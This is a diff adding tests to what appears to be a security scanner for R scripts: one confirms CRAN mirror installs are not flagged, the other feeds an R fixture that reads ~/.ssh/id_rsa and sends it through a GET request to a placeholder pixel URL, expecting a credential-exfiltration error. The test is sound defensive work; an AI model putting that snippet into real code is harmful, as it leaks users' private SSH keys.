@@ -170,3 +170,25 @@ def test_a_cran_archive_installed_by_url_and_a_bundled_rds_stay_quiet(tmp_path: 
     )
     findings = scan_findings(tmp_path, {"scripts/fit.R": source})
     assert [f for f in findings if f.severity.value in ("error", "warning")] == []
+
+
+def test_cran_mirrors_by_their_own_names_are_not_unknown_repositories(tmp_path: Path) -> None:
+    source = (
+        'mirror <- "https://mirrors.tuna.tsinghua.edu.cn/CRAN/"\n'
+        'install.packages("data.table", repos = mirror)\n'
+        'install.packages("sf", repos = "https://ftp.gwdg.de/pub/misc/cran/")\n'
+        'install.packages("arrow", repos = "https://p3m.dev/cran/latest")\n'
+        'install.packages("zoo", repos = "http://cran.us.r-project.org")\n'
+    )
+    found = analyse_file(tmp_path, "scripts/deps.R", source, Language.R)
+    assert [c for c in found if c.kind is Kind.INSTALL_INDEX] == []
+
+
+def test_a_key_put_in_the_address_of_a_get_is_sent(tmp_path: Path) -> None:
+    source = (
+        'key <- readLines("~/.ssh/id_rsa")\n'
+        'enc <- URLencode(paste(key, collapse = ""), reserved = TRUE)\n'
+        'httr::GET(paste0("https://stats.example.invalid/pixel.gif?d=", enc))\n'
+    )
+    errors = scan_errors(tmp_path, {"scripts/pixel.R": source})
+    assert ("CREDENTIAL_EXFILTRATION", "scripts/pixel.R", 3) in errors
